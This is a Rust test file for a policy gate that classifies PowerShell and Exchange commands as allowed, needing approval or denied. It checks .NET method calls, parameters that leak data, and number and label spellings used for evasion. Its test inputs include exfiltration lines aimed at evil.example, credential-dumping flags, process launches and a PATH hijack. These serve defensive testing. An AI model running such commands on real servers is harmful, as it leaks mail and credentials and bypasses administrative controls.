            "{line}: {:?}",
            d.invocations
        );
    }
    for line in [
        "[scriptblock]::Create('Remove-Mailbox x')",
        "[System.Management.Automation.ScriptBlock]::Create($s)",
        "[powershell]::Create()",
        "[type]::GetType('System.IO.File')",
        "[System.Reflection.Assembly]::LoadFile('C:\\x.dll')",
        "[Activator]::CreateInstance($t)",
        "[Diagnostics.Process]::Start('cmd.exe')",
        "[Contoso.Tools]::Run()",
        "[System.Linq.Enumerable]::Where($a, $f)",
        "[Array]::ForEach($a, $sb)",
        "[regex]::Replace('a', 'a', $sb)",
        "[IO.File]::$m('C:\\x')",
        "[IO.File]::ReadAllBytes::Invoke('x')",
    ] {
        let d = check_with(&p, line);
        assert_eq!(d.decision, Effect::Approval, "{line}: {}", d.reason);
        assert!(d.invocations.iter().any(|i| i.dynamic), "{line}");
    }
}

/// Standing read access does not cover a read cmdlet given a parameter through which it acts:
/// each such parameter needs approval under `reads-that-act` (shipped policies), the same
/// cmdlet without it stays standing access, and network probes need approval.
#[test]
fn reads_that_act_through_a_parameter_need_approval() {
    let policies = shipped();
    let acting: &[(&str, &str)] = &[
        ("Test-Mailflow -TargetEmailAddress exfil@evil.example", "reads-that-act"),
        ("Test-Mailflow EX01 -TargetEmailAddress a@b.c -TargetEmailAddressDisplayName x", "reads-that-act"),
        ("Test-Message -Sender a@contoso.com -Recipients b@contoso.com -SendReportTo x@evil.example", "reads-that-act"),
        ("Get-SiteMailboxDiagnostics -Identity sm1 -SendMeEmail", "reads-that-act"),
        ("Get-MobileDeviceStatistics -Mailbox rob -GetMailboxLog -NotificationEmailAddresses x@evil.example", "reads-that-act"),
        ("Get-MobileDeviceStatistics -Mailbox rob -ShowRecoveryPassword", "reads-that-act"),
        ("Get-ActiveSyncDeviceStatistics -Mailbox rob -GetMailboxLog", "reads-that-act"),
        ("Test-ActiveSyncConnectivity -ResetTestAccountCredentials", "reads-that-act"),
        ("Test-OwaConnectivity -ResetTestAccountCredentials", "reads-that-act"),
        ("Test-ImapConnectivity -ResetTestAccountCredentials", "reads-that-act"),
        ("Test-PopConnectivity -ResetTestAccountCredentials", "reads-that-act"),
        ("Test-EcpConnectivity -ResetTestAccountCredentials", "reads-that-act"),
        ("Test-CalendarConnectivity -ResetTestAccountCredentials", "reads-that-act"),
        ("Test-WebServicesConnectivity -ResetTestAccountCredentials", "reads-that-act"),
        ("Test-PowerShellConnectivity -ResetTestAccountCredentials", "reads-that-act"),
        ("Test-UMConnectivity -ResetPIN $true", "reads-that-act"),
        ("Test-SystemHealth -OutFileLocation C:\\Windows\\x.xml", "reads-that-act"),
        ("Test-SystemHealth -ConfigurationFileLocation C:\\x.xml", "reads-that-act"),
        ("Get-CalendarDiagnosticLog -Identity rob -LogLocation C:\\Temp", "reads-that-act"),
        ("Get-ClientAccessService -IncludeAlternateServiceAccountCredentialPassword", "reads-that-act"),
        ("Get-ComplianceSearchAction -IncludeCredential", "reads-that-act"),
        ("Test-AssistantHealth -ResolveProblems", "reads-that-act"),
        ("Get-AgentLog -Location C:\\Users\\admin\\Documents", "reads-that-act"),
        ("Get-Mailbox | ? { Test-Mailflow -TargetEmailAddress x@evil.example }", "reads-that-act"),
        ("Test-Connection 10.0.0.1", "network-tests"),
        ("Test-NetConnection contoso.com -Port 443", "network-tests"),
        ("Test-WSMan server01", "network-tests"),
    ];
    let mut failures = Vec::new();
    for (line, rule) in acting {
        let d = check_with(&policies, line);
        let deciding = d
            .invocations
            .iter()
            .find(|i| i.decision == Effect::Approval);
        if d.decision != Effect::Approval || deciding.and_then(|i| i.rule.as_deref()) != Some(*rule)
        {
            failures.push(format!(
                "{line}: wanted approval under `{rule}`, got {:?}: {}",
                d.decision, d.reason
            ));
        }
    }
    for line in [
        "Test-Mailflow",
        "Test-Mailflow -TargetDatabase DB01",
        "Get-MobileDeviceStatistics -Mailbox rob",
        "Test-OwaConnectivity",
        "Test-SystemHealth",
        "Get-SiteMailboxDiagnostics -Identity sm1",
        "Get-Mailbox",
        "Clear-Host",
        "Start-Sleep -Seconds 5",
        "cls",
    ] {
        let d = check_with(&policies, line);
        if d.decision != Effect::Allow {
            failures.push(format!(
                "{line}: wanted allow, got {:?}: {}",
                d.decision, d.reason
            ));
        }
    }
    // An acting parameter bound by property name from pipeline input is as good as written.
    for line in [
        "[pscustomobject]@{ ComputerName = 'evil.example' } | Get-Service",
        "@{ ComputerName = 'evil.example' } | Get-Process",
        "Get-Mailbox | Get-Unlisted-Thing | Get-Service",
        "$servers | Get-Process -Name lsass",
    ] {
        let d = check_with(&policies, line);
        if d.decision == Effect::Allow {
            failures.push(format!(
                "{line}: a pipeline may bind -ComputerName, yet allowed: {}",
                d.reason
            ));
        }
    }
    // An abbreviation that could be an acting parameter is not standing access.
    let d = check_with(&policies, "Test-Mailflow -TargetEmail x@evil.example");
    if d.decision == Effect::Allow {
        failures.push(format!("ambiguous -TargetEmail was allowed: {}", d.reason));
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// The shipped policies decide .NET method tasks as they decide the matching cmdlets: file
/// reads and writes need approval, the network, the registry, the directory and WMI are
/// denied, value computations are standing access.
#[test]
fn shipped_policies_decide_method_tasks() {
    let policies = shipped();
    let cases: &[(&str, Effect, Option<&str>)] = &[
        (
            "[System.IO.File]::ReadAllBytes('C:\\x.pfx')",
            Effect::Approval,
            Some("file-reads"),
        ),
        (
            "[IO.File]::ReadAllText('C:\\x.txt')",
            Effect::Approval,
            Some("file-reads"),
        ),
        (
            "Get-Content C:\\x.txt",
            Effect::Approval,
            Some("file-reads"),
        ),
        (
            "[System.IO.File]::WriteAllBytes('C:\\x', $b)",
            Effect::Approval,
            Some("file-writes"),
        ),
        (
            "[IO.File]::WriteAllText('C:\\x', 'y')",
            Effect::Approval,
            Some("file-writes"),
        ),
        (
            "[IO.StreamWriter]'C:\\x.txt'",
            Effect::Approval,
            Some("file-writes"),
        ),
        (
            "[System.Net.WebClient]::new()",
            Effect::Deny,
            Some("network-access"),
        ),
        (
            "[Net.Sockets.TcpClient]::new('evil.example', 443)",
            Effect::Deny,
            Some("network-access"),
        ),
        (
            "[adsi]'LDAP://CN=x,DC=contoso,DC=com'",
            Effect::Deny,
            Some("directory-and-wmi"),
        ),
        (
            "[wmiclass]'Win32_Process'",
            Effect::Deny,
            Some("directory-and-wmi"),
        ),
        (
            "[CimSession]'server01'",
            Effect::Deny,
            Some("directory-and-wmi"),
        ),
        (
            "[Microsoft.Win32.Registry]::SetValue('HKEY_CURRENT_USER\\x', 'y', 1)",
            Effect::Deny,
            Some("host-control"),
        ),
        (
            "[Environment]::SetEnvironmentVariable('PATH', 'C:\\evil')",
            Effect::Deny,
            Some("host-control"),
        ),
        (
            "[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YQ=='))",
            Effect::Allow,
            None,
        ),
        (
            "[Convert]::ToInt32('10', 2)",
            Effect::Allow,
            Some("value-methods"),
        ),
        (
            "[IO.Path]::GetFileName('C:\\x\\y.txt')",
            Effect::Allow,
            Some("value-methods"),
        ),
        (
            "[IO.Path]::GetTempFileName()",
            Effect::Approval,
            Some("file-writes"),
        ),
        (
            "[IO.File]::Open('C:\\x', 'Open')",
            Effect::Approval,
            Some("file-writes"),
        ),
        ("[Contoso.Tool]::Run()", Effect::Deny, None),
    ];
    let mut failures = Vec::new();
    for (line, effect, rule) in cases {
        let d = check_with(&policies, line);
        let deciding = d.invocations.iter().find(|i| i.decision == *effect);
        let rule_ok = match rule {
            Some(r) => deciding.and_then(|i| i.rule.as_deref()) == Some(*r),
            None => true,
        };
        if d.decision != *effect || !rule_ok {
            failures.push(format!(
                "{line}: wanted {effect:?} under {rule:?}, got {:?}: {}",
                d.decision, d.reason
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A method call that is dynamic keeps its method name and kind, so a deny rule naming it makes
/// the decision deny even where the dynamic default is approval.
#[test]
fn deny_rules_name_dynamic_method_calls() {
    let p = permissive(
        r#"
[[rule]]
id = "no-process"
effect = "deny"
tasks = ["[System.Diagnostics.Process]::*", "[System.Management.Automation.ScriptBlock]::*", "[Contoso.*]::*"]
"#,
    );
    for line in [
        "[Diagnostics.Process]::Start('cmd.exe')",
        "[System.Diagnostics.Process]::GetProcessById(4).Kill()",
        "[scriptblock]::Create('Remove-Mailbox x')",
        "[Contoso.Tools]::Run()",
        "[Contoso.Writer]'C:\\x'",
    ] {
        let d = check_with(&p, line);
        assert_eq!(d.decision, Effect::Deny, "{line}: {}", d.reason);
        assert!(
            d.invocations
                .iter()
                .any(|i| i.rule.as_deref() == Some("no-process")
                    && i.kind == TaskKind::Method
                    && i.dynamic),
            "{line}: {:?}",
            d.invocations
        );
    }
}

/// A `:label` before a loop keyword is a labelled loop to PowerShell. It is refused as such, not
/// decided as a command named `:label` whose arguments happen to hold the loop.
#[test]
fn labelled_loops_are_refused_for_what_they_are() {
    let policies = shipped();
    for line in [
        ":outer while ($true) { Remove-Mailbox bob }",
        ":l foreach ($m in Get-Mailbox) { Set-Mailbox $m -HiddenFromAddressListsEnabled $true }",
        ":l do { Get-Mailbox } while ($false)",
        ":S SWITCH (1) { 1 { Remove-Mailbox bob } }",
        "Get-Mailbox; :l <# c #> for (;;) { Get-Mailbox }",
    ] {
        let d = check_with(&policies, line);
        assert_eq!(d.decision, Effect::Deny, "{line:?}: {}", d.reason);
        assert!(d.reason.contains("loop labels"), "{line:?}: {}", d.reason);
    }
}

// ---- numeric literals read as PowerShell's tokenizer reads them ------------------------------

const LIMITS_POLICY: &str = r#"
[defaults]
unmatched = "deny"
dynamic = "deny"

[[rule]]
id = "helpers"
effect = "allow"
tasks = ["Get-*", "Write-Output", "Out-Null", "ForEach-Object"]

[[rule]]
id = "mailbox-limits"
effect = "allow"
tasks = ["Set-Mailbox"]

[[rule]]
id = "no-1024-recipients"
effect = "deny"
tasks = ["Set-Mailbox"]
params.RecipientLimits = { one_of = ["1024"] }

[[rule]]
id = "no-unlimited-recipients"
effect = "deny"
tasks = ["Set-Mailbox"]
params.RecipientLimits = { one_of = ["-1", "Unlimited"] }
"#;

/// A deny rule written against a number holds however the number is spelled: PowerShell binds
/// the literal's value, not its text. A type suffix before the multiplier (`1lkb`), binary
/// literals, a trailing point, doubles, hex and binary literals whose sign bit makes them -1,
/// suffixes that only name a type: each was text to the gate, or another number, and let the
/// line through the `allow` rule.
#[test]
fn a_number_constraint_sees_the_value_powershell_binds() {
    let denied_1024 = [
        "1lkb",
        "1LKB",
        "1ukb",
        "1ulkb",
        "1dkb",
        "1nkb",
        "1skb",
        "0b10000000000",
        "0B1kb",
        "1024.",
        "1024.0",
        "1.0kb",
        "1.e0kb",
        "0.0009765625mb",
        "1024l",
        "1024d",
        "1024n",
        "1024u",
        "1024us",
        "1024s",
        "1024ul",
        "0x400",
        "0x400l",
        "1.024e3",
        "10.24e2",
        "1024e\u{2013}0",
        // Leading zeros, however many, change nothing.
        "0x0000000000000000000000000000000000000000000400",
    ];
    let denied_minus_1 = [
        "0xFFFFFFFF",
        "0xffffffff",
        "0xFFFFFFFFFFFFFFFF",
        "0xFFy",
        "0xFFFFs",
        "0xFFFFFFFFn",
        "0b11111111",
        "0b1111111111111111",
        "0b11111111111111111111111111111111",
        // 128 or more binary digits with a leading 1 carry a sign bit too.
        &format!("0b{}", "1".repeat(130)),
        "-1",
    ];
    const LIMITS: &str = "Set-Mailbox bob@contoso.com -RecipientLimits ";
    let spellings: Vec<&str> = denied_1024.iter().chain(&denied_minus_1).copied().collect();
    assert_all(LIMITS_POLICY, &with_values(LIMITS, &spellings), Deny);
    // Values the gate cannot compute exactly are never guessed: a decimal keeps its scale, a
    // double beyond fixed notation prints in scientific form, an en dash passes as text.
    // `-RecipientLimits` is Exchange's `Unlimited`, which parses text itself: a word that is
    // not a plain number (`1kbx`, `300y`) is not compared as written either.
    let unknown = [
        "1.5d",
        "1e15",
        "1024.0d",
        "\u{2013}1",
        "-0x1",
        "-1kb",
        "1kbx",
        "300y",
    ];
    assert_all(LIMITS_POLICY, &with_values(LIMITS, &unknown), Deny);
    // Values that are neither stay allowed: the rule is not a blanket refusal.
    let other = ["1000", "1023", "0x3FF", "1.5kb", "1025."];
    assert_all(LIMITS_POLICY, &with_values(LIMITS, &other), Allow);
}

/// A word that starts like a number but is not one to PowerShell's tokenizer is a generic
/// token: at the start of a pipeline, the name of a command it runs (`5.ps1` runs a script on
/// the path). The gate read a number and a member access, no command, and allowed the line.
#[test]
fn words_that_only_look_like_numbers_are_not_read_as_harmless_numbers() {
    let lines = [
        "5.ps1",
        "1.exe | Out-Null",
        "$x = 2.cmd",
        "Write-Output (3.bat)",
        "Write-Output $(4.ps1)",
        "Write-Output @(6.exe)",
        "if (5.ps1) { Get-Mailbox }",
        "Get-Mailbox | ForEach-Object { 7.ps1 }",
        "8.dll",
        "9.e",
        "1.5.5.ps1 ; 5.x",
        "(5.ToString())",
        // `[` does not end a number either: `5[0]` is one word, not an index into 5.
        "5[0]",
        "$x = 7[1]",
        "Write-Output (5$x)",
    ];
    let failures = check_under(LIMITS_POLICY, &lines, Deny);
    assert!(failures.is_empty(), "{failures:#?}");
    // The same words as command arguments are text, as PowerShell passes them.
    let args = [
        "Write-Output 5.ps1",
        "Write-Output 1.exe 2.cmd",
        "Get-Mailbox -Identity 5.x",
    ];
    let failures = check_under(LIMITS_POLICY, &args, Allow);
    assert!(failures.is_empty(), "{failures:#?}");
}

const TYPED_POLICY: &str = r#"
[defaults]
unmatched = "deny"
dynamic = "deny"

[[rule]]
id = "mailbox-settings"
effect = "allow"
tasks = ["Set-Mailbox"]

[[rule]]
id = "never-hide"
effect = "deny"
tasks = ["Set-Mailbox"]
params.HiddenFromAddressListsEnabled = { one_of = ["True"] }

[[rule]]
id = "no-100-folders"
effect = "deny"
tasks = ["Set-Mailbox"]
params.FoldersCountReceiveQuota = { one_of = ["100"] }

[[rule]]
id = "no-1024-recipients"
effect = "deny"
tasks = ["Set-Mailbox"]
params.RecipientLimits = { one_of = ["1024"] }
"#;

/// A value constraint holds for the value the parameter receives after PowerShell converts it,
/// not for the text as written: a Boolean parameter takes any non-zero number as `True`
/// (ParameterBinderBase), an `Int32` one rounds `99.5` to 100 and reads `'0x64'` as 100, and
/// Exchange's `Unlimited` parses `'0x400'` or `' 1024'` itself. Each of these was compared as
/// written and let the line through the `allow` rule; a conversion the gate does not compute
/// is now a value known only at run time (denied here by `dynamic = "deny"`).
#[test]
fn a_constraint_sees_the_value_after_the_parameter_converts_it() {
    let mut denied = with_values(
        "Set-Mailbox bob -HiddenFromAddressListsEnabled",
        &[
            " 1", ":1", ":0x1", " 0x1", " -1", " 2", " 1.5", " 0b1", " 1kb", " 1lkb",
        ],
    );
    denied.push("$p = @{ HiddenFromAddressListsEnabled = 1 }; Set-Mailbox -Identity bob @p".into());
    denied.extend(with_values(
        "Set-Mailbox bob -FoldersCountReceiveQuota ",
        &[
            "'0x64'", "'1e2'", "99.5", "100.4", "' 100'", "'100.0'", "1e2", "0x64",
        ],
    ));
    denied.push("$p = @{ FoldersCountReceiveQuota = '0x64' }; Set-Mailbox -Identity bob @p".into());
    denied.extend(with_values(
        "Set-Mailbox bob -RecipientLimits ",
        &[
            "'0x400'", "' 1024'", "'1KB'", "'1024.0'", "1023.5", "'+1024'",
        ],
    ));
    assert_all(TYPED_POLICY, &denied, Deny);
    // What converts to another value stays allowed.
    let allowed = [
        "Set-Mailbox bob -HiddenFromAddressListsEnabled 0",
        "Set-Mailbox bob -HiddenFromAddressListsEnabled:0x0",
        "Set-Mailbox bob -HiddenFromAddressListsEnabled 0.0",
        "Set-Mailbox bob -HiddenFromAddressListsEnabled $false",
        "$p = @{ HiddenFromAddressListsEnabled = 0 }; Set-Mailbox -Identity bob @p",
        "$p = @{ FoldersCountReceiveQuota = '99' }; Set-Mailbox -Identity bob @p",
        "Set-Mailbox bob -FoldersCountReceiveQuota 99",
        "Set-Mailbox bob -FoldersCountReceiveQuota '101'",
        "Set-Mailbox bob -RecipientLimits Unlimited",
        "Set-Mailbox bob -RecipientLimits 1000",
    ];
    let failures = check_under(TYPED_POLICY, &allowed, Allow);
    assert!(failures.is_empty(), "{failures:#?}");
}
